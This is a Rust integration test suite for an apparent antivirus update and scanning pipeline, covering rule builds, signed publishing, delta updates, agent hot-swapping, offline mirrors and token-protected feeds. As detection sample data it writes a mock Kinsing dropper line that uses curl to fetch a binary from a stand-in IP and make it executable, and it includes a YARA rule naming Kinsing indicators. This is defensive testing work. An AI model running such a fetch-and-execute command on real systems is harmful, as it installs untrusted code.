//! The whole pipeline across real processes, as the README's first command runs it: build
//! rules-src/ with vigil-build, publish to a directory repository, serve it with vigil-server on
//! 127.0.0.1, install with vigil-update, detect EICAR with vigil-scan; then add a rule,
//! republish, and watch the agent (`vigil-agent`) take the delta and hot-swap while
//! scans keep running, and detect the new sample through `vigil-scan --daemon`. Also the
//! offline mirror: interrupted and resumed, served to a client, and written to S3.
#![allow(clippy::unwrap_used)]

use std::fs::File;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use vigil_scan_core::service::Client as ScanClient;
use vigil_tests::fault::{Fault, FaultServer};
use vigil_tests::updater::{strip_ansi, vigil_server, vigil_server_with, Client, Repo, EICAR};
use vigil_tests::{bin, ChildGuard};

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .to_path_buf()
}

fn run(cmd: &mut Command) -> (i32, String, String) {
    let out = cmd.env("NO_COLOR", "1").output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        strip_ansi(&String::from_utf8_lossy(&out.stderr)),
    )
}

#[track_caller]
fn ok(cmd: &mut Command) -> String {
    let (code, out, err) = run(cmd);
    assert_eq!(code, 0, "{cmd:?}\n{out}\n{err}");
    out
}

fn signal(pid: u32, sig: &str) {
    let s = Command::new("kill")
        .args([&format!("-{sig}"), &pid.to_string()])
        .status()
        .unwrap();
    assert!(s.success());
}

fn wait_until(what: &str, secs: u64, mut f: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(secs);
    while !f() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

const KINSING_RULE: &str = r#"
rule Linux_Miner_Kinsing_1
{
    meta:
        severity = "high"
        description = "Kinsing cryptominer dropper"
        author = "vigil tests"
        reference = "https://attack.mitre.org/software/S0599/"
        date = "2026-11-25"
    strings:
        $a = "kinsing" nocase
        $b = "kdevtmpfsi"
        $c = "/tmp/kdevtmpfsi"
    condition:
        2 of them
}
"#;

#[test]
fn pipeline_then_delta_update_and_hot_swap_in_the_agent() {
    let tmp = tempfile::tempdir().unwrap();
    let t = tmp.path();
    let build = bin("vigil-build");
    let p = |x: &Path| x.display().to_string();
    let (keys, repo, tuf) = (t.join("keys"), t.join("repo"), t.join("tuf"));

    // Build and publish version 1 from rules-src/.
    ok(Command::new(&build).args(["keygen", "-o", &p(&keys)]));
    let rules = workspace().join("rules-src");
    let v1 = t.join("v1.vdb");
    ok(Command::new(&build)
        .args([
            "build",
            "--rules",
            &p(&rules),
            "--key",
            &p(&keys.join("vigil.key")),
        ])
        .args(["--version", "1", "-o", &p(&v1)]));
    ok(Command::new(&build).args(["repo", "init", "--repo", &p(&repo), "--tuf-keys", &p(&tuf)]));
    ok(Command::new(&build)
        .args(["publish", "--repo", &p(&repo), "--tuf-keys", &p(&tuf)])
        .args(["--db", &p(&v1)]));
    let server = vigil_server(&repo);

    // Samples: EICAR (every database) and a dropper (only the rule added in version 2).
    let samples = t.join("samples");
    std::fs::create_dir_all(&samples).unwrap();
    let eicar = samples.join("eicar.com");
    std::fs::write(&eicar, EICAR).unwrap();
    let dropper = samples.join("dropper.sh");
    std::fs::write(
        &dropper,
        "curl -s http://203.0.113.9/kinsing -o /tmp/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi\n",
    )
    .unwrap();

    let socket = t.join("vigil.sock");
    let findings = t.join("findings.jsonl");
    let config = t.join("vigil.toml");
    let write_config = |extra: &str| {
        std::fs::write(
            &config,
            format!(
                "mirrors = [{:?}]\ndatabase_dir = \"db\"\ntrusted_root = {:?}\npubkeys = [{:?}]\n\
                 checks_per_day = 1\n[agent]\nsocket = {:?}\nscan_threads = 2\n\
                 [[agent.scheduled]]\nname = \"nightly\"\ncron = \"0 3 * * *\"\npaths = [{:?}]\n\
                 output = \"findings.jsonl\"\n{extra}",
                server.url,
                p(&tuf.join("root.json")),
                p(&keys.join("vigil.pub")),
                p(&socket),
                p(&samples),
            ),
        )
        .unwrap();
    };
    write_config("");

    // One-shot update, then a local scan with the installed database.
    let (code, _, err) = run(Command::new(bin("vigil-update")).args(["--config", &p(&config)]));
    assert_eq!(code, 0, "{err}");
    let db = t.join("db/vigil.vdb");
    assert_eq!(std::fs::read(&db).unwrap(), std::fs::read(&v1).unwrap());
    let (code, out, _) = run(Command::new(bin("vigil-scan")).args([
        "-d",
        &p(&db),
        "--pubkey",
        &p(&keys.join("vigil.pub")),
        &p(&eicar),
    ]));
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("FOUND"), "{out}");
    let (code, _, err) = run(Command::new(bin("vigil-update")).args(["--config", &p(&config)]));
    assert_eq!(code, 1, "already up to date: {err}");

    // The agent.
    let log = t.join("agent.log");
    let agent = ChildGuard(
        Command::new(bin("vigil-agent"))
            .args(["--config", &p(&config)])
            .env("NO_COLOR", "1")
            .stdout(Stdio::null())
            .stderr(File::create(&log).unwrap())
            .spawn()
            .unwrap(),
    );
    let pid = agent.0.id();
    wait_until("the scan service", 60, || {
        ScanClient::connect(&socket)
            .and_then(|mut c| c.ping())
            .is_ok()
    });
    let scan_daemon = |path: &Path| {
        run(Command::new(bin("vigil-scan")).args(["--daemon", "--socket", &p(&socket), &p(path)]))
    };
    let (code, out, err) = scan_daemon(&dropper);
    assert_eq!(code, 0, "version 1 does not know the dropper: {out}{err}");

    // Scans run without pause while the agent updates and swaps.
    let stop = Arc::new(AtomicBool::new(false));
    let (scans, failures) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
    let scanner = {
        let (stop, scans, failures, socket, eicar) = (
            stop.clone(),
            scans.clone(),
            failures.clone(),
            socket.clone(),
            eicar.clone(),
        );
        std::thread::spawn(move || {
            let mut c = ScanClient::connect(&socket).unwrap();
            while !stop.load(Ordering::Relaxed) {
                let mut found = false;
                match c.scan(std::slice::from_ref(&eicar), false, |r| {
                    found |= !r.findings.is_empty()
                }) {
                    Ok(_) if found => scans.fetch_add(1, Ordering::Relaxed),
                    _ => failures.fetch_add(1, Ordering::Relaxed),
                };
            }
        })
    };

    // Version 2 adds a rule and ships as a delta.
    let rules2 = t.join("rules-v2");
    vigil_tests::updater::copy_dir(&rules, &rules2);
    std::fs::write(rules2.join("yara/linux_miner_kinsing.yar"), KINSING_RULE).unwrap();
    let v2 = t.join("v2.vdb");
    ok(Command::new(&build)
        .args([
            "build",
            "--rules",
            &p(&rules2),
            "--key",
            &p(&keys.join("vigil.key")),
        ])
        .args(["--version", "2", "-o", &p(&v2)]));
    ok(Command::new(&build)
        .args(["publish", "--repo", &p(&repo), "--tuf-keys", &p(&tuf)])
        .args(["--db", &p(&v2)]));
    let before = scans.load(Ordering::Relaxed);
    signal(pid, "USR1");
    wait_until("the hot swap to version 2", 120, || {
        ScanClient::connect(&socket)
            .and_then(|mut c| c.version())
            .is_ok_and(|v| v.db_version == 2)
    });
    std::thread::sleep(Duration::from_millis(300));
    stop.store(true, Ordering::Relaxed);
    scanner.join().unwrap();
    assert_eq!(
        failures.load(Ordering::Relaxed),
        0,
        "scans failed during the swap"
    );
    assert!(scans.load(Ordering::Relaxed) > before, "scans kept running");

    let (code, out, err) = scan_daemon(&dropper);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("Linux_Miner_Kinsing_1 FOUND"), "{out}");
    let agent_log = strip_ansi(&std::fs::read_to_string(&log).unwrap());
    assert!(
        agent_log.contains("deltas=1"),
        "the update went by delta:\n{agent_log}"
    );
    assert!(agent_log.contains("full=false"), "{agent_log}");
    assert!(agent_log.contains("engine hot-swapped"), "{agent_log}");
    assert_eq!(std::fs::read(&db).unwrap(), std::fs::read(&v2).unwrap());
    assert_eq!(
        std::fs::read(t.join("db/vigil.lkg.vdb")).unwrap(),
        std::fs::read(&v1).unwrap(),
        "version 1 is kept as last-known-good"
    );

    // A scheduled scan, run now: findings as JSON lines, and a summary.
    signal(pid, "USR2");
    wait_until("the scheduled scan's summary", 60, || {
        std::fs::read_to_string(&findings).is_ok_and(|s| s.contains("\"summary\""))
    });
    let lines: Vec<serde_json::Value> = std::fs::read_to_string(&findings)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(lines
        .iter()
        .any(|l| l["signature"] == "Linux_Miner_Kinsing_1"
            && l["path"] == p(&dropper)
            && l["db_version"] == 2));
    let summary = lines.iter().find(|l| l["summary"].is_object()).unwrap();
    assert_eq!(summary["summary"]["infected"], 2, "{summary}");

    // SIGHUP: a valid config is taken; an invalid one is refused and the agent keeps serving.
    write_config("[[agent.scheduled]]\nname = \"hourly\"\ncron = \"@hourly\"\npaths = [\"/nonexistent\"]\noutput = \"h.jsonl\"\n");
    signal(pid, "HUP");
    wait_until("the reload", 30, || {
        std::fs::read_to_string(&log).is_ok_and(|s| s.contains("schedules=2"))
    });
    std::fs::write(&config, "mirrors = [").unwrap();
    signal(pid, "HUP");
    wait_until("the refusal", 30, || {
        std::fs::read_to_string(&log).is_ok_and(|s| s.contains("keeping the old one"))
    });
    assert!(ScanClient::connect(&socket)
        .and_then(|mut c| c.ping())
        .is_ok());

    // SIGTERM: a clean exit that removes the socket.
    let mut agent = agent;
    signal(pid, "TERM");
    let status = agent.0.wait().unwrap();
    assert!(status.success(), "{status:?}");
    assert!(!socket.exists());
}

#[test]
fn offline_mirror_is_resumable_and_serves_clients_like_the_origin() {
    let mut repo = Repo::new();
    repo.filler = 20_000;
    repo.publish(1);
    let v2 = repo.publish(2);
    let mirror = repo.tmp.path().join("mirror");
    let root = repo.root_json().display().to_string();
    let sync = |from: &str, to: &str| {
        run(Command::new(bin("vigil-update"))
            .args(["--config", "/nonexistent/vigil.toml", "mirror"])
            .args(["--from", from, "--to", to, "--root", &root]))
    };

    // The origin dies in the middle of the first database: nothing is published yet.
    let origin = FaultServer::start(&repo.dir);
    origin.set_fault(
        ".vdb",
        Fault::DieAfter {
            bytes: v2.len() / 2,
        },
    );
    let (code, _, err) = sync(&origin.url(), &mirror.display().to_string());
    assert_eq!(code, 3, "{err}");
    assert!(
        !mirror.join("metadata/timestamp.json").exists(),
        "timestamp.json comes last"
    );
    let partial = mirror.join(".vigil-mirror/partial");
    let kept: u64 = std::fs::read_dir(&partial)
        .unwrap()
        .flatten()
        .map(|e| e.metadata().unwrap().len())
        .sum();
    assert!(kept > 0, "the interrupted download is kept");

    // Resumed from vigil-server: the cut file continues with a Range request.
    let access = repo.tmp.path().join("origin-access.log");
    let server = vigil_server_with(&repo.dir, Stdio::from(File::create(&access).unwrap()));
    let (code, _, err) = sync(&server.url, &mirror.display().to_string());
    assert_eq!(code, 0, "{err}");
    let log = strip_ansi(&std::fs::read_to_string(&access).unwrap());
    assert!(
        log.lines()
            .any(|l| l.contains(".vdb") && l.contains("status=206")),
        "no ranged request in:\n{log}"
    );
    assert!(mirror.join("metadata/timestamp.json").exists());

    // A client on the air-gapped side, pointed at the mirror.
    let served = vigil_server(&mirror);
    let client = Client::new(&repo.tmp.path().join("client"), &repo, &[&served.url], "");
    let r = client.update();
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(client.active().unwrap(), v2);

    // The next release reaches it by delta after a re-sync.
    let v3 = repo.publish(3);
    let (code, _, err) = sync(&server.url, &mirror.display().to_string());
    assert_eq!(code, 0, "{err}");
    let r = client.update();
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stderr.contains("by 1 delta(s)"), "{}", r.stderr);
    assert_eq!(client.active().unwrap(), v3);

    // The same mirror in S3, served by vigil-server from the bucket.
    let rt = tokio::runtime::Runtime::new().unwrap();
    let s3 = rt.block_on(vigil_tests::s3::S3Server::start());
    let to = format!("s3://{}/mirror", vigil_tests::s3::BUCKET);
    let (code, _, err) = run(Command::new(bin("vigil-update"))
        .args(["--config", "/nonexistent/vigil.toml", "mirror"])
        .args(["--from", &server.url, "--to", &to, "--root", &root])
        .args(["--s3-endpoint", &s3.endpoint(), "--s3-path-style"])
        .args([
            "--work-dir",
            &repo.tmp.path().join("s3-work").display().to_string(),
        ])
        .envs(s3.env()));
    assert_eq!(code, 0, "{err}");
    let port = vigil_tests::free_port();
    let addr = format!("127.0.0.1:{port}");
    let _from_bucket = ChildGuard(
        Command::new(bin("vigil-server"))
            .args(["--repo", &to, "--listen", &addr])
            .args(["--s3-endpoint", &s3.endpoint(), "--s3-path-style"])
            .envs(s3.env())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    vigil_tests::wait_for_port(&addr, 30);
    let fresh = Client::new(
        &repo.tmp.path().join("client-s3"),
        &repo,
        &[&format!("http://{addr}/")],
        "",
    );
    let r = fresh.update();
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(fresh.active().unwrap(), v3);
}

#[test]
fn private_feed_is_reached_with_the_token_and_refused_without() {
    let repo = Repo::new();
    let v1 = repo.publish(1);
    let tokens = repo.tmp.path().join("tokens");
    let hash = vigil_tests::updater::sha256_hex(b"feed-token-0123");
    std::fs::write(&tokens, format!("{hash}\n")).unwrap();
    let port = vigil_tests::free_port();
    let addr = format!("127.0.0.1:{port}");
    let _server = ChildGuard(
        Command::new(bin("vigil-server"))
            .args(["--repo", &repo.dir.display().to_string(), "--listen", &addr])
            .args(["--tokens", &tokens.display().to_string()])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    vigil_tests::wait_for_port(&addr, 20);
    let url = format!("http://{addr}/");
    let without = Client::new(&repo.tmp.path().join("anonymous"), &repo, &[&url], "");
    let r = without.update();
    assert_eq!(r.code, 3, "{}", r.stderr);
    assert!(r.stderr.contains("HTTP 401"), "{}", r.stderr);
    assert!(without.active().is_none());

    let token_file = repo.tmp.path().join("token");
    std::fs::write(&token_file, "feed-token-0123\n").unwrap();
    let with = Client::new(
        &repo.tmp.path().join("customer"),
        &repo,
        &[&url],
        &format!("token_file = {:?}", token_file.display().to_string()),
    );
    let r = with.update();
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(with.active().unwrap(), v1);
}
